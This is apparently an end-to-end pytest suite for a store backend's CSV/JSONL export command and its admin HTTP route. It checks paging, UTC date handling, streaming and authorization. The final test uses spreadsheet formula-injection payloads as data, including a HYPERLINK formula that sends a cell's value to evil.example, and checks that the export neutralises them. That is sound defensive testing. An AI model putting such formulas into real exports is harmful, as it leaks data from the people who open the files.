"""Issue 28, exports: `storekeeper export` (and `GET /admin/v1/exports/{kind}`) streams orders, ledger rows and transactions over a
time range as CSV and JSON lines, a keyset page at a time; what it writes is checked against
the rows as psql reads them, across page boundaries that split purchases made at one instant."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import secrets
import socket
import subprocess
import time

import pytest
import requests

from chart_history import History
from support import buy, problem, unique, wait_until

GOLD = "com.example.tests.exports.gold"


@pytest.fixture(scope="module")
def exported(stack):
    history = History.generate(seed=7)
    stack.db.server.psql(history.sql(), database=stack.db.name)
    # Twelve purchases at one instant, so pages of five split them.
    stack.db.server.psql(
        "INSERT INTO apple_transactions (transaction_id, original_transaction_id, product_id, bundle_id, "
        "environment, quantity, type, purchase_date, user_id, source, price_milliunits, currency, storefront) "
        "SELECT '70000000' || lpad(n::text, 2, '0'), '70000000' || lpad(n::text, 2, '0'), 'coins', 'b', "
        "'Production', 1, 'Consumable', '2026-02-14T12:00:00Z', 'tied', 'signed_transaction', 990, 'USD', 'USA' "
        "FROM generate_series(1, 12) n", database=stack.db.name)
    stack.api.put_product(GOLD, grants={"balance": {"gold": 10}})
    user = unique("exporter")
    for _ in range(3):
        buy(stack.api, stack.fake, user, GOLD)
    return stack, user


def export(stack, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([stack.sk.argv[0], "export", *args], env=stack.sk.env, capture_output=True, text=True,
                          timeout=120)


def test_each_stores_transactions_stream_in_pages_on_its_own_order(exported):
    # A store at a time, App Store then Google Play, each by purchase instant then its own id,
    # a page at a time from its own table: twelve purchases of each store at one instant (one
    # Google order known by its purchase token, which is never written), an App Store one
    # after the Google ones, and pages of five that split them. (In 2027, out of the other
    # tests' ranges.)
    stack, _ = exported
    stack.db.server.psql(
        "INSERT INTO apple_transactions (transaction_id, original_transaction_id, product_id, bundle_id, "
        "environment, quantity, type, purchase_date, user_id, source, price_milliunits, currency, storefront) "
        "SELECT '72000000' || lpad(n::text, 2, '0'), '72000000' || lpad(n::text, 2, '0'), 'coins', 'b', "
        "'Production', 1, 'Consumable', CASE WHEN n = 13 THEN timestamptz '2027-03-14T10:00:00Z' "
        "ELSE timestamptz '2027-03-14T08:00:00Z' END, 'a-exporter', 'signed_transaction', 990, 'USD', 'USA' "
        "FROM generate_series(1, 13) n;"
        "INSERT INTO google_purchases (purchase_token, package_name, kind, product_id, google_product_id, order_id, "
        "quantity, environment, purchase_time, user_id) "
        "SELECT 'export-token-' || n, 'com.example', 'product', 'coins', 'coins', "
        "CASE WHEN n = 7 THEN 'export-token-7' ELSE 'GPA.3300-' || lpad(n::text, 2, '0') END, 1, 'Production', "
        "'2027-03-14T09:00:00Z', 'g-exporter' FROM generate_series(1, 12) n;"
        "INSERT INTO google_orders (order_id, purchase_token, purchased_at, price_micros, currency, price_source) "
        "SELECT order_id, purchase_token, purchase_time, 990000, 'USD', 'order' FROM google_purchases "
        "WHERE purchase_token LIKE 'export-token-%'", database=stack.db.name)
    apple = [f"72000000{n:02d}" for n in range(1, 14)]
    google = sorted([f"GPA.3300-{n:02d}" for n in range(1, 13) if n != 7] + ["export-token-7"])
    google = ["token:" + hashlib.md5(b"export-token-7").hexdigest()[:16] if g == "export-token-7" else g
              for g in google]
    for size in ("5", "5000"):
        done = export(stack, "transactions", "--from", "2027-01-01", "--to", "2027-07-01", "--page-size", size)
        assert done.returncode == 0, done.stderr
        rows = list(csv.DictReader(io.StringIO(done.stdout)))
        assert [r["transaction_id"] for r in rows] == apple + google
        assert [r["store"] for r in rows] == ["app_store"] * 13 + ["google_play"] * 12
        assert "export-token-7" not in done.stdout


def test_transactions_stream_in_pages_exactly_as_stored(exported):
    stack, _ = exported
    expected = [r[0] for r in stack.db.rows(
        "SELECT transaction_id FROM apple_transactions WHERE purchase_date >= '2026-01-01' "
        "AND purchase_date < '2026-07-01' ORDER BY purchase_date, transaction_id")]
    assert len(expected) > 100
    done = export(stack, "transactions", "--from", "2026-01-01", "--to", "2026-07-01", "--page-size", "5")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [r["transaction_id"] for r in rows] == expected
    assert f"export: {len(expected)} transactions row(s)" in done.stderr
    # Values as stored: the price Apple signed, NULL as an empty field.
    stored = {r[0]: r[1:] for r in stack.db.rows(
        "SELECT transaction_id, coalesce(trim_scale(price_milliunits::numeric / 1000)::text, ''), "
        "coalesce(currency, ''), coalesce(storefront, 'unknown') FROM apple_transactions")}
    for r in rows:
        assert [r["price"], r["currency"], r["country"]] == stored[r["transaction_id"]]
    lines = export(stack, "transactions", "--from", "2026-01-01", "--to", "2026-07-01", "--format", "jsonl",
                   "--page-size", "7")
    assert lines.returncode == 0, lines.stderr
    objects = [json.loads(line) for line in lines.stdout.splitlines()]
    assert [o["transaction_id"] for o in objects] == expected
    for o, r in zip(objects, rows):
        assert {k: ("" if v is None else v) for k, v in o.items()} == r


def test_a_range_includes_its_start_and_excludes_its_end(exported):
    stack, _ = exported
    at = "2026-02-14T12:00:00Z"
    inside = export(stack, "transactions", "--from", at, "--to", "2026-02-14T12:00:00.001Z", "--format", "jsonl")
    assert sorted(json.loads(x)["user_id"] for x in inside.stdout.splitlines()) == ["tied"] * 12
    before = export(stack, "transactions", "--from", "2026-02-14T11:00:00Z", "--to", at, "--format", "jsonl")
    assert "tied" not in {json.loads(x)["user_id"] for x in before.stdout.splitlines()}


def test_orders_and_ledger_rows_export_with_their_amounts(exported):
    stack, user = exported
    orders = export(stack, "orders", "--from", "2000-01-01", "--to", "2099-01-01", "--page-size", "2")
    assert orders.returncode == 0, orders.stderr
    mine = [r for r in csv.DictReader(io.StringIO(orders.stdout)) if r["user_id"] == user]
    expected = stack.db.rows(f"SELECT trade_no, amount::text FROM orders WHERE user_id = '{user}' ORDER BY trade_no")
    assert [[r["trade_no"], r["amount"]] for r in mine] == expected and len(expected) == 3
    assert all(r["trade_status"] == "TRADE_SUCCESS" and r["paid_at"] for r in mine)
    ledger = export(stack, "ledger", "--from", "2000-01-01", "--to", "2099-01-01", "--format", "jsonl")
    entries = [json.loads(x) for x in ledger.stdout.splitlines()]
    assert [(e["asset"], e["amount"], e["kind"]) for e in entries if e["user_id"] == user] == [("gold", "10", "grant")] * 3
    assert all((e["debt"], e["operation_id"], e["adjustment_id"]) == ("0", None, None)
               for e in entries if e["user_id"] == user)


@pytest.mark.parametrize("args", [[], ["refunds"], ["orders"], ["orders", "--from", "2026-01-01"],
                                  ["orders", "--from", "yesterday", "--to", "2026-01-01"],
                                  ["orders", "--from", "2026-01-01", "--to", "2026-02-01", "--format", "xml"],
                                  ["orders", "--from", "2026-01-01", "--to", "2026-02-01", "--page-size", "0"],
                                  ["orders", "--from", "2026-01-01", "--to", "2026-02-01", "--colour"]])
def test_wrong_arguments_are_refused_before_any_query(exported, args):
    stack, _ = exported
    done = export(stack, *args)
    assert done.returncode == 2 and "usage: storekeeper export" in done.stderr and done.stdout == ""


# ---------------------------------------------------------------------------------------------
# Over HTTP: GET /admin/v1/exports/{kind}, streamed


BIG_FROM, BIG_TO = "2025-03-01", "2025-03-02"
BIG_ROWS = 50_000


@pytest.fixture(scope="module")
def big(exported):
    """50,000 transactions in one day of their own, one a second apart in pairs."""
    stack, _ = exported
    stack.db.server.psql(
        "INSERT INTO apple_transactions (transaction_id, original_transaction_id, product_id, bundle_id, "
        "environment, quantity, type, purchase_date, user_id, source, price_milliunits, currency, storefront) "
        "SELECT '8' || lpad(n::text, 9, '0'), '8' || lpad(n::text, 9, '0'), 'coins', 'b', 'Production', 1, "
        "'Consumable', timestamptz '2025-03-01T00:00:00Z' + (n / 2) * interval '1 second', 'bulk-' || (n % 97), "
        "'signed_transaction', 990 + n % 13, 'USD', 'USA' FROM generate_series(1, 50000) n",
        database=stack.db.name)
    return stack


def http_export(stack, kind: str, token: str | None = "admin", **query: str) -> requests.Response:
    headers = {"Authorization": f"Bearer {stack.sk.admin_token if token == 'admin' else token}"} if token else {}
    return requests.get(f"{stack.sk.url}/admin/v1/exports/{kind}", params=query, headers=headers, timeout=120)


@pytest.mark.parametrize("kind,start,end", [("transactions", "2026-01-01", "2026-07-01"),
                                            ("orders", "2026-01-01", "2028-01-01"),
                                            ("ledger", "2026-01-01", "2028-01-01")])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_http_gives_exactly_the_commands_bytes(exported, kind, start, end, fmt):
    stack, _ = exported
    done = export(stack, kind, "--from", start, "--to", end, "--format", fmt)
    assert done.returncode == 0, done.stderr
    r = http_export(stack, kind, **{"from": start, "to": end, "format": fmt})
    assert r.status_code == 200, r.text
    assert r.headers["Transfer-Encoding"] == "chunked" and "Content-Length" not in r.headers
    assert r.headers["Content-Type"].startswith("text/csv" if fmt == "csv" else "application/x-ndjson")
    assert r.headers["Content-Disposition"] == \
        f'attachment; filename="{kind}-{start}-{end}.{fmt}"'
    assert r.text == done.stdout and len(done.stdout.splitlines()) > 1


def test_the_command_reads_dates_as_utc_whatever_the_sessions_time_zone(exported):
    # A bare date is midnight UTC for the command as for the route: the command once handed it
    # to PostgreSQL as text, read in the session's zone (PGTZ, or the database's), and so took
    # rows from the day before in Kolkata. A time without its zone is refused.
    stack, _ = exported
    # Bought at 20:00 UTC on the 14th: inside the UTC day, after Kolkata's 14th ended.
    stack.db.server.psql(
        "INSERT INTO apple_transactions (transaction_id, original_transaction_id, product_id, bundle_id, "
        "environment, quantity, type, purchase_date, user_id, source, price_milliunits, currency, storefront) "
        "VALUES ('7100000001', '7100000001', 'coins', 'b', 'Production', 1, 'Consumable', "
        "'2026-02-14T20:00:00Z', 'late', 'signed_transaction', 990, 'USD', 'USA') ON CONFLICT DO NOTHING",
        database=stack.db.name)
    kolkata = {**stack.sk.env, "PGTZ": "Asia/Kolkata"}
    done = subprocess.run([stack.sk.argv[0], "export", "transactions", "--from", "2026-02-14", "--to", "2026-02-15"],
                          env=kolkata, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    r = http_export(stack, "transactions", **{"from": "2026-02-14", "to": "2026-02-15"})
    assert r.status_code == 200, r.text
    assert done.stdout == r.text and "7100000001" in done.stdout
    naive = export(stack, "transactions", "--from", "2026-02-14T00:00:00", "--to", "2026-02-15")
    assert naive.returncode == 2 and "with its zone" in naive.stderr


def test_a_zone_offset_postgresql_would_refuse_is_read_as_the_instant_it_names(exported):
    """RFC 3339 allows offsets up to 23:59 and PostgreSQL none past 15:59: found by a seeded
    schemathesis run, which got a cut-off answer (the refusal came once the body was streaming)."""
    stack, _ = exported
    done = export(stack, "transactions", "--from", "2026-01-01", "--to", "2026-07-01", "--format", "jsonl")
    assert done.returncode == 0, done.stderr
    # 04:00 at -20:00 on June 30th is midnight UTC on July 1st.
    r = http_export(stack, "transactions", **{"from": "2026-01-01T20:00:00+20:00",
                                              "to": "2026-06-30T04:00:00-20:00", "format": "jsonl"})
    assert r.status_code == 200, r.text
    assert r.text == done.stdout and len(done.stdout.splitlines()) > 1


def test_a_large_export_arrives_whole_and_parses(big):
    stack = big
    r = http_export(stack, "transactions", **{"from": BIG_FROM, "to": BIG_TO})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == BIG_ROWS
    assert [x["transaction_id"] for x in rows] == [f"8{n:09d}" for n in range(1, BIG_ROWS + 1)]
    lines = http_export(stack, "transactions", **{"from": BIG_FROM, "to": BIG_TO, "format": "jsonl"})
    objects = [json.loads(line) for line in lines.text.splitlines()]
    assert len(objects) == BIG_ROWS and objects[-1]["transaction_id"] == f"8{BIG_ROWS:09d}"
    done = export(stack, "transactions", "--from", BIG_FROM, "--to", BIG_TO)
    assert r.text == done.stdout


def test_a_client_reading_slowly_still_gets_everything(big):
    stack = big
    with socket.create_connection(("127.0.0.1", int(stack.sk.url.rsplit(":", 1)[1])), timeout=60) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        s.sendall(f"GET /admin/v1/exports/transactions?from={BIG_FROM}&to={BIG_TO}&format=jsonl HTTP/1.1\r\n"
                  f"Host: e2e\r\nAuthorization: Bearer {stack.sk.admin_token}\r\n\r\n".encode())
        received = bytearray()
        stalls = 0
        # Stalls of a second at the start and every 4 MB: the server's buffer fills and its export
        # waits each time (the unit tests assert the bound; this asserts nothing is lost to it).
        while not received.endswith(b"\r\n0\r\n\r\n"):
            if len(received) >= stalls * 4_000_000:
                time.sleep(1)
                stalls += 1
            piece = s.recv(65536)
            assert piece, "the server closed before the last chunk"
            received += piece
    head, _, body = bytes(received).partition(b"\r\n\r\n")
    assert b"Transfer-Encoding: chunked" in head
    lines = dechunk(body).decode().splitlines()
    assert len(lines) == BIG_ROWS and json.loads(lines[0])["transaction_id"] == "8000000001"


def dechunk(body: bytes) -> bytes:
    out, at = bytearray(), 0
    while True:
        end = body.index(b"\r\n", at)
        size = int(body[at:end], 16)
        if size == 0:
            return bytes(out)
        out += body[end + 2:end + 2 + size]
        assert body[end + 2 + size:end + 4 + size] == b"\r\n"
        at = end + 4 + size


def test_a_client_that_disconnects_leaves_the_server_free(big):
    stack = big
    marker = unique("gone")
    with socket.create_connection(("127.0.0.1", int(stack.sk.url.rsplit(":", 1)[1])), timeout=60) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8192)
        s.sendall(f"GET /admin/v1/exports/transactions?from={BIG_FROM}&to={BIG_TO} HTTP/1.1\r\n"
                  f"Host: e2e\r\nX-Request-Id: {marker}\r\nAuthorization: Bearer {stack.sk.admin_token}\r\n\r\n"
                  .encode())
        assert s.recv(4096).startswith(b"HTTP/1.1 200")
    # The access log says the body was cut short: the export stopped, it did not run to its end.
    line = wait_until(lambda: next((x for x in stack.sk.log_lines_json()
                                    if x.get("msg") == "request" and x.get("request_id") == marker), None),
                      30, "no access log line for the abandoned export")
    assert line.get("body_cut_short") is True and line["bytes"] < 10_000_000
    wait_until(lambda: stack.db.scalar(
        "SELECT count(*) FROM pg_stat_activity WHERE state <> 'idle' AND query LIKE '%AS line%' "
        "AND pid <> pg_backend_pid()") == "0", 30, "an export query is still running")
    assert http_export(stack, "orders", **{"from": "2026-01-01", "to": "2028-01-01"}).status_code == 200


def test_exports_need_an_admin_token(exported):
    stack, _ = exported
    query = {"from": "2026-01-01", "to": "2026-02-01"}
    problem(http_export(stack, "orders", token=None, **query), 401)
    problem(http_export(stack, "orders", token="not-a-token", **query), 401)


def test_a_read_scope_token_may_export_and_write_only_routes_stay_closed(module_launcher):
    reader = secrets.token_hex(16)
    stack = module_launcher.stack(ADMIN_TOKENS=f"ops:{secrets.token_hex(16)},viewer:{reader}:read")
    query = {"from": "2026-01-01", "to": "2026-02-01"}
    assert http_export(stack, "orders", token=reader, **query).status_code == 200
    refused = requests.put(f"{stack.sk.url}/admin/v1/products/com.example.tests.exports.x",
                           headers={"Authorization": f"Bearer {reader}"}, json={}, timeout=30)
    problem(refused, 403, "insufficient_scope")


@pytest.mark.parametrize("query,field", [
    ({"to": "2026-02-01"}, "from"),
    ({"from": "2026-01-01"}, "to"),
    ({"from": "yesterday", "to": "2026-02-01"}, "from"),
    ({"from": "2026-01-01T00:00:00", "to": "2026-02-01"}, "from"),
    ({"from": "2026-02-30", "to": "2026-03-01"}, "from"),
    ({"from": "2026-02-01", "to": "2026-01-01"}, "from"),
    ({"from": "2020-01-01", "to": "2026-01-01"}, "to"),
    ({"from": "2026-01-01", "to": "2026-02-01", "format": "xml"}, "format"),
    ({"from": "2026-01-01", "to": "2026-02-01", "colour": "red"}, "colour"),
])
def test_wrong_queries_are_422_naming_the_field(exported, query, field):
    stack, _ = exported
    body = problem(http_export(stack, "orders", **query), 422, "invalid_export_query")
    assert field in [f["field"] for f in body.get("errors", body.get("fields", []))], body


def test_an_unknown_export_is_404(exported):
    stack, _ = exported
    problem(http_export(stack, "refunds", **{"from": "2026-01-01", "to": "2026-02-01"}), 404, "export_not_found")


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(exported):
    # User ids are the client's to choose; a spreadsheet opening the export must not run one.
    stack, _ = exported
    formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-1+1", "@SUM(A1)"]
    for user in formulas:
        r = stack.api.post_order(user, GOLD)
        assert r.status_code == 201, r.text
    day = 86_400
    start, end = (time.strftime("%Y-%m-%d", time.gmtime(time.time() + d)) for d in (-day, 2 * day))
    r = http_export(stack, "orders", **{"from": start, "to": end})
    assert r.status_code == 200, r.text
    cells = {row["user_id"] for row in csv.DictReader(io.StringIO(r.text))}
    assert {"'" + user for user in formulas} <= cells, cells
    assert not cells & set(formulas)
    # Numbers keep their sign, and JSON lines (not a spreadsheet's format) keep every value.
    assert all(not row["amount"].startswith("'") for row in csv.DictReader(io.StringIO(r.text)))
    lines = http_export(stack, "orders", **{"from": start, "to": end, "format": "jsonl"})
    assert set(formulas) <= {json.loads(line)["user_id"] for line in lines.text.splitlines()}
